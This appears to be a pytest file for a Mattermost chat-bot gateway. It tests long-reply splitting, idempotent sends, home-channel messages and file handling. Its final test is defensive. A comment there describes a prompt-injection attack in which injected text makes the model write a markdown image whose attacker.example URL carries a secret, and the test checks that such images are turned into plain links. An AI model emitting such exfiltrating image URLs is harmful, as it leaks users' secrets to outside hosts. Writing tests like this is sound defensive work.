"""What the bot posts: long replies split, idempotent sends, proactive messages, files both ways."""

from __future__ import annotations

import base64
import re
from pathlib import Path

from hermes.gateway.approvals import send_to_target
from hermes.platforms.base import Attachment, ChatRef
from tests.fakes.llm import Text

from .conftest import MattermostBot, hub_of, platform_of, settled

# A 1×1 PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
_MARKER = re.compile(r"\n\(\d+/\d+\)$")


async def test_a_20000_character_reply_is_split_at_the_post_limit(bot: MattermostBot) -> None:
    words = [f"w{i:04d}" for i in range(3334)]  # 3334 × 6 - 1 = 20,003 characters
    story = " ".join(words)
    bot.llm.script(Text(story))
    dm = bot.dm_with(bot.alice)
    async with bot.running() as gateway:
        await bot.mm.post_as(bot.alice, dm, "the long version, please")
        await bot.reply(dm, lambda p: p.message.endswith("(2/2)"))
        await settled(gateway)
    posts = bot.replies_in(dm)
    assert len(posts) == 2
    assert all(len(p.message) <= 16_383 for p in posts)
    assert posts[0].message.endswith("(1/2)")
    assert " ".join(_MARKER.sub("", p.message) for p in posts).split() == words


async def test_a_lower_configured_limit_splits_further(bot: MattermostBot) -> None:
    story = " ".join(f"w{i:04d}" for i in range(500))
    bot.llm.script(Text(story))
    bot.configure(config={"mattermost": {"max_message_chars": 1000}})
    dm = bot.dm_with(bot.alice)
    async with bot.running() as gateway:
        await bot.mm.post_as(bot.alice, dm, "long")
        await bot.reply(dm, lambda p: p.message.endswith("(4/4)"))
        await settled(gateway)
    assert [len(p.message) <= 1000 for p in bot.replies_in(dm)] == [True] * 4


async def test_sends_are_idempotent_through_pending_post_id(bot: MattermostBot) -> None:
    async with bot.running() as gateway:
        platform = platform_of(gateway)
        chat = ChatRef("mattermost", bot.town.id, "channel")
        first = await platform.send(chat, "only once", idempotency_key="event1:0")
        again = await platform.send(chat, "only once", idempotency_key="event1:0")
    assert first.message_id == again.message_id
    assert [p.message for p in bot.replies_in(bot.town)] == ["only once"]
    posted = [r.body for r in bot.mm.requests if r.method == "POST" and r.path == "/api/v4/posts"]
    assert {b["pending_post_id"] for b in posted} == {f"{bot.bot.id}:event1:0"}


async def test_sethome_then_a_proactive_message_lands_in_that_channel(bot: MattermostBot) -> None:
    ops = bot.mm.create_channel(bot.team, "O", [bot.alice, bot.bot], name="ops")
    bot.configure(env={"MATTERMOST_HOME_CHANNEL": bot.town.id})
    async with bot.running() as gateway:
        hub = hub_of(gateway)
        await send_to_target(hub, "home:mattermost", "from the configured home")
        await bot.reply(bot.town, lambda p: p.message == "from the configured home")
        await bot.mm.post_as(bot.alice, ops, "!sethome")
        await bot.reply(ops, lambda p: "home channel" in p.message)
        await settled(gateway)
        await send_to_target(hub, "home:mattermost", "cron: the nightly report is ready")
        report = await bot.reply(ops, lambda p: p.message.startswith("cron:"))
    assert report.root_id == ""
    assert [p.message for p in bot.replies_in(bot.town)] == ["from the configured home"]


async def test_images_reach_the_model_and_other_files_are_described(bot: MattermostBot) -> None:
    dm = bot.dm_with(bot.alice)
    async with bot.running() as gateway:
        image = await bot.mm.upload_as(bot.alice, dm, "dot.png", PNG)
        notes = await bot.mm.upload_as(bot.alice, dm, "notes.txt", b"remember the milk")
        await bot.mm.post_as(bot.alice, dm, "what is this?", file_ids=[image.id, notes.id])
        await bot.reply(dm)
        await settled(gateway)
        media = gateway.config.paths.media_cache / "mattermost"
    content = bot.llm.chat_requests[0].messages[-1]["content"]
    assert isinstance(content, list)
    text = next(part["text"] for part in content if part["type"] == "text")
    images = [part["image_url"]["url"] for part in content if part["type"] == "image_url"]
    assert images == ["data:image/png;base64," + base64.b64encode(PNG).decode()]
    assert text.startswith("what is this?")
    assert f"notes.txt (text/plain, 17 bytes) saved at {media}" in text
    assert (media / f"{notes.id}.txt").read_bytes() == b"remember the milk"


async def test_files_over_the_size_limit_are_not_downloaded(bot: MattermostBot) -> None:
    bot.configure(config={"mattermost": {"max_file_bytes": 10}})
    dm = bot.dm_with(bot.alice)
    async with bot.running() as gateway:
        big = await bot.mm.upload_as(bot.alice, dm, "big.txt", b"x" * 11)
        await bot.mm.post_as(bot.alice, dm, "", file_ids=[big.id])
        reply = await bot.reply(dm)
        await settled(gateway)
    assert "big.txt is too large (11 bytes): the limit is 10 bytes" in reply.message
    downloads = [r for r in bot.mm.requests if r.path == f"/api/v4/files/{big.id}"]
    assert downloads == []


async def test_outbound_attachments_are_uploaded_and_attached(bot: MattermostBot, tmp_path: Path) -> None:
    chart = tmp_path / "chart.png"
    chart.write_bytes(PNG)
    missing = Attachment("gone.txt", "text/plain", str(tmp_path / "gone.txt"), 3)
    async with bot.running() as gateway:
        platform = platform_of(gateway)
        chat = ChatRef("mattermost", bot.town.id, "channel")
        attachment = Attachment("chart.png", "image/png", str(chart), len(PNG))
        ref = await platform.send(
            chat, "here is the chart", idempotency_key="files:0", attachments=[attachment, missing]
        )
    post = bot.mm.get_post(ref.message_id)
    assert post.message.startswith("here is the chart")
    assert "[gone.txt could not be attached: the file could not be read]" in post.message
    [file_id] = post.file_ids
    info = bot.mm.files.files[file_id]
    assert (info.name, info.data, info.post_id) == ("chart.png", PNG, post.id)


async def test_images_in_the_models_reply_are_posted_as_links(bot: MattermostBot) -> None:
    # The attack: injected text makes the model write an image whose URL carries a secret; shown inline,
    # every viewer's client would fetch it with no click.
    leak = "![](https://attacker.example/p.png?d=SECRET) and ![chart](https://attacker.example/c.png)"
    code = "```\n![kept](https://example.org/in-code.png)\n```"
    bot.llm.script(Text(f"Here you go: {leak}\n\n{code}"))
    dm = bot.dm_with(bot.alice)
    async with bot.running() as gateway:
        await bot.mm.post_as(bot.alice, dm, "summarise the page")
        await bot.reply(dm, lambda p: "Here you go" in p.message)
        await settled(gateway)
        await send_to_target(
            hub_of(gateway), f"mattermost:{dm.id}", "cron says ![x](https://attacker.example/x)"
        )
    messages = [p.message for p in bot.replies_in(dm)]
    assert messages[0] == (
        "Here you go: [image](https://attacker.example/p.png?d=SECRET) and "
        f"[chart](https://attacker.example/c.png)\n\n{code}"
    )
    assert messages[-1] == "cron says [x](https://attacker.example/x)"
    # Every version the server saw, edits included, was without an image.
    bodies = [r.body for r in bot.mm.requests if r.method in ("POST", "PUT") and isinstance(r.body, dict)]
    assert not any("![](https" in str(b.get("message", "")) for b in bodies)
